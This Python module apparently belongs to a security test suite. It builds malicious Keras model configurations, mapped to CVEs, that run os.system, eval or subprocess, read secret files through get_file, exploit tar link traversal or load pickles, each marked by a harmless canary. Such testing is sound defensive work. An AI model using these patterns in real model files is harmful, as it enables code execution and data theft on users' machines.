"""Attacks by the configuration of a model file: what it names is imported, called or loaded."""

from __future__ import annotations

import base64
import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from attack_helpers import Attack, Attacks, Case, function, layer, pickled

ATTACKS = Attacks()


def lambda_of(
    name: str, source: str, module: str, symbol: str, call: Callable[[Case], Any]
) -> None:
    """Adds an attack: a Lambda that names a function of any module, and is called at once."""

    def build(case: Case) -> Path:
        value, named = call(case)
        path = module if case.is_keras_3 else module.replace("keras.", "tf_keras.")
        named_function = function(symbol, path)
        return case.with_layers(case.lambda_layer("function", named_function, value, **named))

    ATTACKS[name] = Attack(source, build)


# A Lambda, and functions that it names.


@ATTACKS.add("bytecode in a Lambda", "CVE-2024-3660, VU#253266")
def _bytecode(case: Case) -> Path:
    return case.with_layers(case.bad_lambda())


@ATTACKS.add("the same in a model within the model", "nested Lambda that scanners miss, 2026")
def _nested(case: Case) -> Path:
    inner = {"name": "inner", "layers": [case.bad_lambda()]}
    return case.with_layers(layer("Sequential", inner, module="keras"))


@ATTACKS.add("the same without a module, by the older reader", "CVE-2026-12481, keras #23048")
def _without_module(case: Case) -> Path:
    bad = case.bad_lambda()
    del bad["module"], bad["registered_name"]
    return case.with_layers(bad)


lambda_of(
    "a Lambda that names os.system",
    "tf-keras #910",
    "os",
    "system",
    lambda case: (f"touch {case.mark}", {}),
)
lambda_of(
    "a Lambda that names builtins.eval",
    "tf-keras #910",
    "builtins",
    "eval",
    lambda case: (f"open({str(case.mark)!r}, 'w')", {}),
)
lambda_of(
    "get_file copies a file of the machine",
    "CVE-2025-8747",
    "keras.utils",
    "get_file",
    lambda case: (
        "mark",
        {"origin": f"file://{case.secret}", "cache_dir": str(case.mark.parent)},
    ),
)


def _archive(case: Case, kind: bytes) -> Path:
    """Writes a tar whose member leads outside."""
    path = case.folder / "archive.tar"
    with tarfile.open(path, "w") as file:
        member = tarfile.TarInfo(str(case.mark))
        member.type, member.linkname = kind, str(case.secret)
        file.addfile(member, io.BytesIO(b""))
    return path


for _kind, _report in (
    (tarfile.REGTYPE, "CVE-2024-55459, CVE-2025-12638"),
    (tarfile.SYMTYPE, "CVE-2025-12060, keras #23015"),
    (tarfile.LNKTYPE, "keras #22973"),
):
    lambda_of(
        f"get_file unpacks an archive that leads outside, kind {_kind.decode()}",
        _report,
        "keras.utils",
        "get_file",
        lambda case, kind=_kind: (
            "archive",
            {
                "origin": f"file://{_archive(case, kind)}",
                "extract": True,
                "cache_dir": str(case.mark.parent),
            },
        ),
    )
lambda_of(
    "load_model reads a second file without safe mode",
    "CVE-2025-8747, the first report",
    "keras.models",
    "load_model",
    lambda case: (str(case.secret), {"safe_mode": False}),
)
lambda_of(
    "a global attribute switches safe mode off",
    "CVE-2025-9906, the first report",
    "keras.src.backend.common.global_state",
    "set_global_attribute",
    lambda case: ("safe_mode_saving", {"value": False}),
)
lambda_of(
    "a function of Keras writes a picture",
    "plot_image_gallery, 2026",
    "keras.visualization",
    "plot_image_gallery",
    lambda case: ([[[[0.0]]]], {"path": str(case.mark)}),
)
lambda_of(
    "the constructor of TFSMLayer as a function",
    "keras #23654",
    "keras.layers",
    "TFSMLayer",
    lambda case: (str(case.secret.parent), {}),
)


@ATTACKS.add("safe mode switched off, and bytecode behind it", "CVE-2025-9906")
def _unsafe(case: Case) -> Path:
    switch = function("enable_unsafe_deserialization", "keras.config")
    off = case.lambda_layer("function", switch)
    return case.with_layers(off, case.bad_lambda("worse"))


# Classes and functions of any module.


@ATTACKS.add("a class of any module", "CVE-2025-1550")
def _class(case: Case) -> Path:
    return case.with_layers(
        layer(
            "Popen", {"args": ["touch", str(case.mark)]}, module="subprocess", inbound=case.call(1)
        )
    )


@ATTACKS.add("a function in place of a layer", "CVE-2025-1550")
def _function(case: Case) -> Path:
    added = {**function("system", "os"), "name": "bad", "inbound_nodes": []}
    return case.with_layers({**added, "inbound_nodes": case.call(f"touch {case.mark}")})


@ATTACKS.add("a module that acts when it is imported", "CVE-2025-1550")
def _module(case: Case) -> Path:
    (case.folder.parent / "evil_module.py").write_text(f"open({str(case.mark)!r}, 'w')")
    return case.with_config({**case.config(), "module": "evil_module", "class_name": "Model"})


@ATTACKS.add("a function as activation", "CVE-2025-1550")
def _activation(case: Case) -> Path:
    activation = function("system", "os")
    return case.with_layers(
        layer("Activation", {"activation": activation}, inbound=case.call(f"touch {case.mark}"))
    )


@ATTACKS.add("a class of any module as initializer", "CVE-2025-1550")
def _initializer(case: Case) -> Path:
    bad = {"module": "os", "class_name": "system", "config": {"command": f"touch {case.mark}"}}
    return case.with_layers(layer("Dense", {"units": 1, "kernel_initializer": bad}))


@ATTACKS.add("a class of any module as regularizer", "CVE-2025-1550")
def _regularizer(case: Case) -> Path:
    return case.with_layers(
        layer("Dense", {"units": 1, "kernel_regularizer": function("system", "os")})
    )


@ATTACKS.add("a class of any module as dtype policy", "CVE-2025-1550")
def _policy(case: Case) -> Path:
    inner = {"module": "subprocess", "class_name": "Popen", "config": {"args": "touch x"}}
    policies = {"default_policy": inner, "policy_map": {"x": inner}}
    policy = {"module": "keras", "class_name": "DTypePolicyMap", "config": policies}
    return case.with_layers(layer("Dense", {"units": 1, "dtype": policy}))


@ATTACKS.add("a class of any module as quantizer", "CVE-2025-1550")
def _quantizer(case: Case) -> Path:
    bad = {"module": "subprocess", "class_name": "Popen", "config": {"args": "touch x"}}
    return case.with_layers(layer("Dense", {"units": 1, "quantization_config": bad}))


@ATTACKS.add("a class in the shapes from which a layer is built", "CVE-2025-1550")
def _build_config(case: Case) -> Path:
    bad = {"input_shape": layer("Popen", {"args": "touch x"}, module="subprocess")}
    return case.with_layers(layer("Dense", {"units": 1}, build_config=bad))


@ATTACKS.add("a class among the arguments of a call", "CVE-2025-1550")
def _argument(case: Case) -> Path:
    bad = {"module": "subprocess", "class_name": "Popen", "config": {"args": "touch x"}}
    return case.with_layers(layer("Add", {}, inbound=case.call(1.0, mask=bad)))


@ATTACKS.add("a type that is imported", "CVE-2025-1550, __typespec__")
def _typespec(case: Case) -> Path:
    bad = {
        "class_name": "__typespec__",
        "spec_name": "Popen",
        "module": "subprocess",
        "config": [["touch", str(case.mark)]],
        "registered_name": None,
    }
    return case.with_layers(layer("InputLayer", {"type_spec": bad}))


@ATTACKS.add("losses, metrics and optimizers of any module", "CVE-2025-1550", is_left_out=True)
def _compiled(case: Case) -> Path:
    bad = {"module": "os", "class_name": "function", "config": "system", "registered_name": "x"}
    compiled = {"optimizer": bad, "loss": bad, "metrics": [bad], "loss_weights": bad}
    return case.with_config({**case.config(), "compile_config": compiled})


for _wrapper, _key in (
    ("Bidirectional", "layer"),
    ("TimeDistributed", "layer"),
    ("SpectralNormalization", "layer"),
    ("RNN", "cell"),
    ("StackedRNNCells", "cells"),
    ("Pipeline", "layers"),
):

    def _wrapped(case: Case, wrapper: str = _wrapper, key: str = _key) -> Path:
        bad = case.bad_lambda("inner")
        del bad["inbound_nodes"]
        inner = [bad] if key.endswith("s") else bad
        return case.with_layers(layer(wrapper, {key: inner}))

    ATTACKS[f"a Lambda within {_wrapper}"] = Attack("CVE-2024-3660, nested", _wrapped)


@ATTACKS.add("a registered name beside a class of the list", "KERAS-MFV-004, keras #22729")
def _registered(case: Case) -> Path:
    module = "keras.src.layers.core.lambda_layer"
    names = {"class_name": "RMSNormalization", "module": module, "registered_name": "Lambda"}
    return case.with_layers({**case.bad_lambda(), **names})


@ATTACKS.add("a registered name of Keras' own", "KERAS-MFV-004")
def _own_registered(case: Case) -> Path:
    return case.with_layers({**case.bad_lambda(), "registered_name": "Custom>Adam"})


@ATTACKS.add("the number of a shared object", "keras shared_object_id")
def _shared(case: Case) -> Path:
    first = layer("Dense", {"units": 1}, name="first", shared_object_id=7)
    return case.with_layers(first, {**case.bad_lambda(), "shared_object_id": 7})


@ATTACKS.add("a qualified name", "tf_keras `Outer.inner`")
def _qualified(case: Case) -> Path:
    return case.with_layers(layer("Path.touch", {}, module="pathlib", inbound=case.call(1)))


# Layers that read, load or call.

for _name in ("StringLookup", "IntegerLookup", "TextVectorization"):
    for _what in ("path", "address"):

        def _lookup(case: Case, name: str = _name, what: str = _what) -> Path:
            source = str(case.secret) if what == "path" else "http://127.0.0.1:9/words"
            return case.with_layers(layer(name, {"vocabulary": source}))

        ATTACKS[f"{_name} with a vocabulary at a {_what}"] = Attack("CVE-2025-12058", _lookup)


@ATTACKS.add("a feature column with a vocabulary file", "CVE-2025-12058, tf_keras DenseFeatures")
def _column(case: Case) -> Path:
    column = {
        "class_name": "VocabularyFileCategoricalColumn",
        "config": {"key": "x", "vocabulary_file": str(case.secret), "vocabulary_size": 1},
    }
    return case.with_layers(layer("DenseFeatures", {"feature_columns": [column]}))


@ATTACKS.add("a pickled PyTorch module", "CVE-2025-49655, keras #21575")
def _torch(case: Case) -> Path:
    module = base64.b64encode(pickled(case)).decode()
    return case.with_layers(layer("TorchModuleWrapper", {"module": module}))


@ATTACKS.add("a SavedModel as a layer", "CVE-2026-1462, keras #22035")
def _savedmodel(case: Case) -> Path:
    return case.with_layers(layer("TFSMLayer", {"filepath": str(case.secret.parent)}))


for _name in ("JaxLayer", "FlaxLayer"):

    def _jax(case: Case, name: str = _name) -> Path:
        return case.with_layers(layer(name, {"call_fn": case.bytecode(), "module": "os"}))

    ATTACKS[f"a function in {_name}"] = Attack("keras, JaxLayer", _jax)

for _operation, _words in (
    ("io.write_file", {"contents": "x"}),
    ("io.read_file", {}),
    ("io.matching_files", {}),
    ("numpy_function", {"inp": [], "Tout": "float32"}),
    ("py_function", {"inp": [], "Tout": "float32"}),
    ("raw_ops.WriteFile", {"contents": "x"}),
    ("saved_model.load", {}),
    ("train.load_checkpoint", {}),
    ("io.gfile.remove", {}),
    ("data.TextLineDataset", {}),
):

    def _operated(case: Case, name: str = _operation, words: Any = _words) -> Path:
        target = case.mark if words.get("contents") else case.secret
        return case.with_layers(
            layer("TFOpLambda", {"function": name}, inbound=case.call(str(target), **words))
        )

    ATTACKS[f"tf_keras calls {_operation}"] = Attack("JFrog TFLOW-MALOPS", _operated)

for _name in ("ClassMethod", "InstanceMethod", "InstanceProperty", "SlicingOpLambda"):

    def _method(case: Case, name: str = _name) -> Path:
        words = {"cls_symbol": "io.gfile.GFile", "cls_ref": "io.gfile.GFile", "method_name": "read"}
        words |= {"attr_name": "read", "function": "io.read_file"}
        return case.with_layers(layer(name, words, inbound=case.call(str(case.secret))))

    ATTACKS[f"tf_keras calls by {_name}"] = Attack("JFrog TFLOW-MALOPS", _method)


@ATTACKS.add("an operation by its definition", "JFrog TFLOW-MALOPS")
def _definition(case: Case) -> Path:
    definition = {"op": "WriteFile", "name": "w", "input": ["a", "b"]}
    constants = {0: str(case.mark), 1: "x"}
    return case.with_layers(
        layer("TensorFlowOpLayer", {"node_def": definition, "constants": constants})
    )


@ATTACKS.add("an operation of Keras 3 that calls a function", "keras #21597")
def _mapped(case: Case) -> Path:
    words = {"function": function("system", "os")}
    return case.with_layers(
        layer("VectorizedMap", words, module="keras.src.ops.core", inbound=case.call("touch x"))
    )


@ATTACKS.add("a second reading of a text in the configuration", "tf_keras composite tensors")
def _composite(case: Case) -> Path:
    text = json.dumps(case.bad_lambda())
    first = case.config()["config"]["layers"][0]["name"]
    constant = ["_CONSTANT_VALUE", -1, [{"_TYPE": "COMPOSITE"}, text], {}]
    return case.with_layers(layer("Add", {}, inbound=[[constant, [first, 0, 0, {}]]]))
